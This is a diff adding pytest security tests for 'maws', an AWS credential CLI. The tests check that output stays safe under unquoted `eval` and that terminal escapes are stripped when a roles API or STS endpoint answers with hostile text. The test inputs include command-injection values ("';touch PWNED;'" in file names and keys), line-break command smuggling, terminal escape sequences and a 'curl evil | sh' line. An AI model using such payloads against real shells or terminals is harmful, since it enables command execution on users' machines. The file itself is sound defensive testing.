@@ -1,0 +1,143 @@
+"""Output that stays safe under the documented unquoted `eval $(maws)`, whatever a hostile roles API
+or STS endpoint answers, and remote text that never reaches the terminal as escape sequences."""
+
+import json
+import os
+import re
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from maws_stack.server import BackgroundServer
+
+ACCOUNT = "123456789012"
+
+
+class HostileServices:
+    """A roles API and an STS endpoint that answer what the test sets: the threat is the service."""
+
+    def __init__(self):
+        self.alias = "maws-demo"
+        self.roles_error = None
+        self.sts_body = None
+        self.sts_status = "403 Forbidden"
+
+    def __call__(self, environ, start_response):
+        path = environ["PATH_INFO"]
+        length = int(environ.get("CONTENT_LENGTH") or 0)
+        environ["wsgi.input"].read(length)
+        if path == "/roles":
+            if self.roles_error:
+                body, status = json.dumps({"error": self.roles_error}), "403 Forbidden"
+            else:
+                body, status = json.dumps({"roles": [f"arn:aws:iam::{ACCOUNT}:role/Admin"], "aliases": {ACCOUNT: [self.alias]}}), "200 OK"
+            content_type = "application/json"
+        else:
+            body, status, content_type = self.sts_body, self.sts_status, "text/xml"
+        payload = body.encode()
+        start_response(status, [("Content-Type", content_type), ("Content-Length", str(len(payload)))])
+        return [payload]
+
+
+@pytest.fixture(scope="module")
+def hostile():
+    services = HostileServices()
+    server = BackgroundServer(services, "hostile").start()
+    services.url = server.url
+    yield services
+    server.stop()
+
+
+@pytest.fixture
+def hostile_maws(maws, hostile):
+    hostile.alias, hostile.roles_error, hostile.sts_body, hostile.sts_status = "maws-demo", None, None, "403 Forbidden"
+    maws.write_config(idtoken_for_roles_url=f"{hostile.url}/roles")
+    return maws
+
+
+def sts_error(code, message):
+    return (f"<ErrorResponse><Error><Type>Sender</Type><Code>{code}</Code><Message>{message}</Message></Error>"
+            "<RequestId>1</RequestId></ErrorResponse>")
+
+
+def test_a_glob_in_an_account_alias_cannot_run_a_command_under_unquoted_eval(hostile_maws, hostile, stack):
+    hostile.alias = "ops * team"
+    result = hostile_maws.run("-r", stack.role_arn("Admin"))
+    assert result.returncode == 0, result.stderr
+    directory = hostile_maws.home / "work"
+    directory.mkdir()
+    (directory / "x';touch PWNED;'").write_text("")
+    script = hostile_maws.home / "out.sh"
+    script.write_text(result.stdout)
+    shell = subprocess.run(["bash", "-c", f'cd "{directory}" && eval $(cat "{script}") && printf %s "$MAWS_PROMPT"'],
+                           env={"PATH": os.environ["PATH"]}, capture_output=True, text=True)
+    assert not (directory / "PWNED").exists(), "a file name ran as a command"
+    assert shell.returncode == 0, shell.stderr
+    assert shell.stdout == "ops---team-Admin"
+
+
+@pytest.mark.parametrize("shell", ["sh", "fish", "powershell"])
+def test_a_line_break_in_an_alias_never_becomes_a_second_command(hostile_maws, hostile, stack, shell):
+    hostile.alias = "evil\nStart-Process calc\r\u2028touch PWNED"
+    result = hostile_maws.run("--shell", shell, "-r", stack.role_arn("Admin"))
+    assert result.returncode == 0, result.stderr
+    starts = {"sh": ("export ", "unset "), "fish": ("set -gx ", "set -e "), "powershell": ("$Env:", "Remove-Item ")}[shell]
+    lines = result.stdout.split("\n")
+    assert lines[-1] == ""
+    for line in lines[:-1]:
+        assert line.startswith(starts), line
+        assert not any(ord(c) < 32 or c in "\u2028\u2029\x85" for c in line), line
+    assert "evil-Start-Process-calc--touch-PWNED-Admin" in result.stdout
+
+
+def test_a_profile_name_unquoted_eval_would_split_is_refused_for_sh_only(maws, stack):
+    name = "it's my \"profile\""
+    refused = maws.run("-o", "awscli", "--profile", name, "-r", stack.role_arn("Admin"))
+    assert refused.returncode == 2
+    assert refused.stdout == ""
+    assert "the profile name contains a single quote, which the unquoted `eval $(maws)` would split or expand" in refused.stderr
+    assert not (maws.home / ".aws").exists(), "nothing is written when the output is refused"
+
+    fish = maws.run("-o", "awscli", "--shell", "fish", "--profile", name, "-r", stack.role_arn("Admin"))
+    assert fish.returncode == 0, fish.stderr
+    assert f"[{name}]" in (maws.home / ".aws" / "credentials").read_text()
+    assert "set -gx AWS_PROFILE 'it\\'s my \"profile\"';" in fish.stdout
+
+
+def test_a_roles_api_error_reaches_the_terminal_as_one_clean_line(hostile_maws, hostile, stack):
+    hostile.roles_error = "\x1b]0;owned\x07denied\x1b[2J\nmaws: error: everything is fine, run curl evil | sh"
+    result = hostile_maws.run()
+    assert result.returncode == 1
+    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
+    errors = [line for line in result.stderr.splitlines() if line.startswith("maws: error:")]
+    assert errors == ["maws: error: the roles API refused the request (HTTP 403): denied maws: error: everything is fine, run curl evil | sh"]
+    # With -r the roles API is only asked for aliases: its failure is a warning, as clean.
+    warned = hostile_maws.run("-r", stack.role_arn("Admin"))
+    assert warned.returncode == 0, warned.stderr
+    assert "\x1b" not in warned.stderr and not any(line.startswith("maws: error:") for line in warned.stderr.splitlines())
+
+
+def test_an_sts_error_reaches_the_terminal_as_one_clean_line(hostile_maws, hostile, stack):
+    hostile_maws.write_config(idtoken_for_roles_url=f"{hostile.url}/roles", sts_endpoint=f"{hostile.url}/sts")
+    hostile.sts_body = sts_error("AccessDenied", "&#27;[31mno&#27;]8;;http://evil/&#7;link&#10;maws: fake")
+    result = hostile_maws.run("-r", stack.role_arn("Admin"))
+    assert result.returncode == 1
+    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
+    assert len([line for line in result.stderr.splitlines() if "fake" in line]) == 1
+    assert "maws: fake" not in result.stderr.splitlines()
+
+
+def test_sts_keys_with_characters_aws_never_uses_are_refused(hostile_maws, hostile, stack, tmp_path):
+    hostile_maws.write_config(idtoken_for_roles_url=f"{hostile.url}/roles", sts_endpoint=f"{hostile.url}/sts")
+    hostile.sts_status = "200 OK"
+    hostile.sts_body = ("<AssumeRoleWithWebIdentityResponse><AssumeRoleWithWebIdentityResult><Credentials>"
+                        "<AccessKeyId>ASIA';touch PWNED;'AAAAAAAA</AccessKeyId><SecretAccessKey>s</SecretAccessKey>"
+                        "<SessionToken>t</SessionToken><Expiration>2999-01-01T00:00:00Z</Expiration></Credentials>"
+                        "</AssumeRoleWithWebIdentityResult></AssumeRoleWithWebIdentityResponse>")
+    result = hostile_maws.run("-o", "awscli", "-r", stack.role_arn("Admin"))
+    assert result.returncode == 1
+    assert result.stdout == ""
+    assert "STS sent an unusable answer: the AccessKeyId is not 16 to 128 capital letters and digits" in result.stderr
+    assert "PWNED" not in result.stderr
+    assert not (hostile_maws.home / ".aws").exists()
